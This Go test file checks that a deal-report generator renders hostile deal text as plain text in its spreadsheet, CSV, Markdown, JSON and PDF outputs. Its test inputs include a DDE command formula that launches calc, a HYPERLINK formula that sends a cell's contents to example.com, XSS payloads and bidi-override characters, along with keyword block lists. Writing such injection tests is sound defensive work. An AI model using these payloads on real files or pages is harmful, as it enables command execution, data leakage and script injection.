package report_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"fmt"
	"io"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"offtake/internal/recompute"
	"offtake/report"
	"offtake/report/sheet"
)

// hostile are texts that some program could take for more than text.
var hostile = map[string]string{
	"formula":            `=HYPERLINK("https://example.com/?"&A1,"open")`,
	"command":            `=cmd|' /C calc'!A0`,
	"plus":               "+1+1",
	"minus":              "-1-1",
	"at":                 "@SUM(1,1)",
	"tab":                "\t=1+1",
	"control characters": "bell \a, escape \x1b[31m, backspace \b, unit \x1f, delete \x7f, C1 \u009b",
	"XML":                `</t></is></c><c r="A1"><f>1</f></c>&amp;&lt;<!-- ]]> "quoted" 'single'`,
	"page codes":         "&P &N &D &[File] &\"Bold\" && &",
	"escape":             "_x000D_ _x003D_1",
	"emoji":              "🚀 growth 👩‍👩‍👧‍👦 🏳️‍🌈",
	"right to left":      "\u202eevil\u202c العقد الجديد – חוזה",
	"long":               strings.Repeat("long text ", 4_000),
	"long and unbroken":  strings.Repeat("x", 40_000),
	"table":              "a | b \\| c ` <img src=x onerror=alert(1)> [link](javascript:alert(1)) **bold**",
	"combining":          "Z̸̡̢a̷l̶g̴o̵ e\u0301\ufeff\u200b",
}

// beset is a deal that says a hostile text wherever a deal file may say one;
// names of scenarios may not be as long as other texts, nor have characters that
// are not seen.
// A deal file is too small for the longest in every place: half says them in
// every other place.
func beset(text string, half int) []byte {
	name := text
	if utf8.RuneCountInString(name) > 100 {
		name = string([]rune(name)[:100])
	}
	name = strings.TrimRight(unseen.ReplaceAllString(name, ""), " ")
	place := 0
	q := func(s string) string {
		if place++; len(s) > 30_000 && place%2 == half {
			s = "short"
		}
		return quoted(s)
	}
	return fmt.Appendf(nil, `deal: {name: %s, customer: %s, provider: %s, currency: EUR, unit: million}
term: {first_year: 2026, years: 3}
commitment: {total: 100}
demand: {first_year: 30, growth: 10%%}
price: {market_decline: 5%%}
revenue: {first_year: 90}
rates: {customer: 12%%, debt: 7%%, provider: 9%%}
funding: {at_signing: 5}
sources:
  - {text: %s, url: "https://example.com/a?b=c&d=%%3D"}
notes:
  demand.growth: %s
  commitment.total: %s
  probability: %s
scenarios:
  - {name: %s, probability: 50%%}
  - {name: %s, probability: 50%%, set: {demand.first_year: 10}}
lines:
  - {name: own, label: %s, note: %s, unit: money, formula: "payment / 1"}
sensitivity:
  grids:
    - {metric: customer_npv, rows: {demand.first_year: [10, 30]}, columns: {price.discount: [0%%, 20%%]}}
  tornado: {metric: pv_lock_in, inputs: {rates.customer: [8%%, 15%%]}}
breakeven:
  - {input: price.discount, metric: pv_lock_in, target: 0, range: [-50%%, 90%%]}
`, q(text), q(text), q(text), q(text), q(text), q(text), q(text), q(name), q(name+" 2"), q(text), q(text))
}

// unseen are the characters that no name may have.
var unseen = regexp.MustCompile(`[\x{202a}-\x{202e}\x{200b}\x{feff}]`)

// quoted is a text as YAML writes it between double quotes.
func quoted(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteString(`\` + string(r))
		case r < ' ' || r >= 0x7f && r < 0xa0 || r == 0xfeff || r >= 0x202a && r <= 0x202e:
			fmt.Fprintf(&b, `\u%04x`, r)
		default:
			b.WriteRune(r)
		}
	}
	return b.String() + `"`
}

// TestHostileTexts: whatever a text of the deal file begins with or holds, it
// is text in every output, wherever it appears.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			for half := range 2 {
				if half == 0 || len(text) > 30_000 {
					isText(t, layDeal(t, "hostile.yaml", beset(text, half)))
				}
			}
		})
	}
}

// isText: what a deal says is text in every output.
func isText(t *testing.T, rep *report.Report) {
	t.Helper()
	xlsx := workbook(t, rep)
	formulasAreOurs(t, rep, xlsx)
	partsAreSound(t, xlsx)
	tableIsText(t, render(t, rep, "csv"))
	markdownIsText(t, string(render(t, rep, "md")))
	doc := decode(t, render(t, rep, "json"))
	assert.Equal(t, rep.Deal.Name, doc.Deal.Name)
	var pdf bytes.Buffer
	_, err := report.WritePDF(&pdf, rep, report.Options{})
	require.NoError(t, err)
	assert.True(t, bytes.HasSuffix(bytes.TrimSpace(pdf.Bytes()), []byte("%%EOF")))
	for _, said := range []string{rep.Deal.Name, rep.Deal.Customer, rep.Deal.Scenarios[0].Name, rep.Deal.Sources[0].Text,
		rep.Book.Sheets[5].Name, rep.Book.Title} {
		assert.False(t, strings.ContainsFunc(said, func(r rune) bool { return r != '\t' && unicode.IsControl(r) }), "%q", said)
	}
}

// formulasAreOurs: the file has exactly the formulas that were laid out, and
// no text of the deal in them but as a sheet's name, a quoted piece of one, or
// words between quotes.
func formulasAreOurs(t *testing.T, rep *report.Report, xlsx []byte) {
	t.Helper()
	values, formulas, err := recompute.ReadValues(xlsx)
	require.NoError(t, err)
	outside := regexp.MustCompile(`"[^"]*"|'(?:[^']|'')*'`)
	for _, s := range rep.Book.Sheets {
		for r, row := range s.Rows() {
			for c, cell := range row.Cells() {
				at := sheet.Address(r, c)
				formula := formulas[s.Name][at]
				assert.Equal(t, cell.Formula, formula, "%s!%s", s.Name, at)
				if cell.Formula == "" && cell.Value.Kind == sheet.Text && cell.Value.Text != "" {
					assert.Equal(t, recompute.Text, values.Cells[s.Name][at].Kind, "%s!%s", s.Name, at)
					assert.LessOrEqual(t, utf8.RuneCountInString(values.Cells[s.Name][at].Text), 32767, "%s!%s", s.Name, at)
				}
				bare := outside.ReplaceAllString(cell.Formula, "")
				for _, bad := range []string{"HYPERLINK", "cmd", "@", "|", "calc"} {
					assert.NotContains(t, bare, bad, "%s!%s", s.Name, at)
				}
			}
		}
	}
}

// partsAreSound: every part of the file is well-formed XML with legal
// characters, page codes of headers and footers are the program's own, names
// are names, and properties and titles keep their lengths.
func partsAreSound(t *testing.T, xlsx []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(xlsx), int64(len(xlsx)))
	require.NoError(t, err)
	charts := 0
	for _, f := range z.File {
		r, err := f.Open()
		require.NoError(t, err)
		data, err := io.ReadAll(r)
		require.NoError(t, err)
		assert.True(t, utf8.Valid(data), f.Name)
		wellFormed(t, f.Name, data)
		for _, m := range regexp.MustCompile(`<oddFooter>([^<]*)</oddFooter>`).FindAllSubmatch(data, -1) {
			footerIsOurs(t, string(m[1]))
		}
		if strings.Contains(f.Name, "charts/") {
			charts++
			assert.NotContains(t, string(data), "<c:f>=", f.Name)
		}
	}
	assert.Positive(t, charts)
}

func wellFormed(t *testing.T, name string, data []byte) {
	t.Helper()
	d := xml.NewDecoder(bytes.NewReader(data))
	for {
		_, err := d.Token()
		if err == io.EOF {
			return
		}
		require.NoError(t, err, name)
	}
}

// footerIsOurs: in a footer only &L, &C, &R, &P, &N and sizes are codes; each
// other & is doubled. Together they have at most 255 characters.
func footerIsOurs(t *testing.T, escaped string) {
	t.Helper()
	var footer string
	require.NoError(t, xml.Unmarshal([]byte("<f>"+escaped+"</f>"), &footer))
	assert.LessOrEqual(t, len([]rune(footer)), 255, footer)
	rest := strings.ReplaceAll(footer, "&&", "")
	codes := regexp.MustCompile(`&(.)`).FindAllStringSubmatch(rest, -1)
	pages := 0
	for _, c := range codes {
		assert.Contains(t, "LCRPN0123456789", c[1], footer)
		if c[1] == "P" || c[1] == "N" {
			pages++
		}
	}
	assert.LessOrEqual(t, pages, 2, "a page and the number of pages: %s", footer)
}

// tableIsText: no cell of a CSV file begins as a formula would, but for
// numbers.
func tableIsText(t *testing.T, data []byte) {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	require.NoError(t, err)
	for _, row := range rows {
		for _, cell := range row {
			if cell == "" || !strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
				continue
			}
			_, err := strconv.ParseFloat(cell, 64)
			assert.NoError(t, err, "%.60q begins as a formula", cell)
		}
	}
}

// markdownIsText: no mark-up of the deal's survives, and tables keep their
// columns.
func markdownIsText(t *testing.T, text string) {
	t.Helper()
	for _, bad := range []string{"<img", "<!--", "</t>", " **bold**", "\t"} {
		assert.NotContains(t, text, bad)
	}
	assert.NotRegexp(t, `[^\\]\]\(javascript`, text)
	columns := 0
	for _, line := range strings.Split(text, "\n") {
		n := len(regexp.MustCompile(`(?:^|[^\\])(?:\\\\)*\|`).FindAllString(strings.ReplaceAll(line, "||", "| |"), -1))
		switch {
		case !strings.HasPrefix(line, "|"):
			columns = 0
		case columns == 0:
			columns = n
		default:
			assert.Equal(t, columns, n, "%.200s", line)
		}
	}
}

// TestCodesOfCharactersAreText: _x0041_ is what a deal says and not the letter A,
// also where two such pieces share an underscore; no name of a sheet has one.
func TestCodesOfCharactersAreText(t *testing.T) {
	rep := layDeal(t, "codes.yaml", beset("_x0041_x0042_", 0))
	xlsx := workbook(t, rep)
	suitsReaders(t, "codes", xlsx)
	values, _, err := recompute.ReadValues(xlsx)
	require.NoError(t, err)
	seen := 0
	for _, s := range rep.Book.Sheets {
		assert.NotContains(t, s.Name, "_x0041_")
		for r, row := range s.Rows() {
			for c, cell := range row.Cells() {
				if cell.Value.Kind == sheet.Text && strings.Contains(cell.Value.Text, "_x0041_x0042_") {
					seen++
					assert.Equal(t, cell.Value.Text, values.Cells[s.Name][sheet.Address(r, c)].Text)
				}
			}
		}
	}
	assert.Greater(t, seen, 10)
}
